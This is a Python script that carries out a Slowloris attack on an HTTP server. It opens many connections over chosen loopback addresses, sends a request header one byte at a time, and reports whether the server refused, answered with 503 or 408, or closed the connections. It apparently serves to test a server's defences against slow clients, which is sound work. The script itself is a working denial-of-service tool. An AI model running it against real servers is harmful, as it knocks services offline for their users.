#!/usr/bin/env python3
"""Slowloris against a server: COUNT connections spread over the loopback
addresses given, each sending a request head one byte at a time, a byte
every INTERVAL seconds, for DURATION seconds. Prints what the server did
with them: refused at connect, answered (503 past the per-client cap, 408
for a request too slow), closed without an answer, or still open at the end.

    slowloris.py HOST PORT COUNT INTERVAL DURATION SRC_ADDR...
"""
import selectors
import socket
import sys
import time


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    interval, duration = float(sys.argv[4]), float(sys.argv[5])
    sources = sys.argv[6:] or ['127.0.0.1']
    head = b'GET / HTTP/1.1\r\nHost: slow\r\nX-A: ' + b'a' * 10000
    sel = selectors.DefaultSelector()
    conns = {}
    refused = 0
    for i in range(count):
        s = socket.socket()
        s.bind((sources[i % len(sources)], 0))
        s.setblocking(False)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            continue
        conns[s] = {'sent': 0, 'opened': time.time(), 'closed': None, 'status': None}
        sel.register(s, selectors.EVENT_READ)
    start = time.time()
    next_send = start
    while time.time() - start < duration:
        now = time.time()
        if now >= next_send:
            for s, c in conns.items():
                if c['closed'] is None and c['sent'] < len(head):
                    try:
                        s.send(head[c['sent']:c['sent'] + 1])
                        c['sent'] += 1
                    except OSError:
                        c['closed'] = now
            next_send = now + interval
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            c = conns[s]
            try:
                data = s.recv(4096)
            except OSError:
                data = b''
            if data.startswith(b'HTTP/1.1 ') and c['status'] is None:
                c['status'] = int(data[9:12])
            if not data:
                c['closed'] = time.time()
                sel.unregister(s)
    statuses = {}
    closed_after = []
    for c in conns.values():
        if c['status'] is not None:
            statuses[c['status']] = statuses.get(c['status'], 0) + 1
        if c['closed'] is not None:
            closed_after.append(c['closed'] - c['opened'])
    still_open = sum(1 for c in conns.values() if c['closed'] is None)
    closed_after.sort()
    median = closed_after[len(closed_after) // 2] if closed_after else 0
    print(f'slowloris: {count} connections from {len(sources)} addresses, a byte every {interval:g} s for '
          f'{duration:g} s: refused at connect {refused}; answered {dict(sorted(statuses.items()))}; '
          f'closed by the server {len(closed_after)} (median after {median:.1f} s); still open {still_open}')


if __name__ == '__main__':
    main()
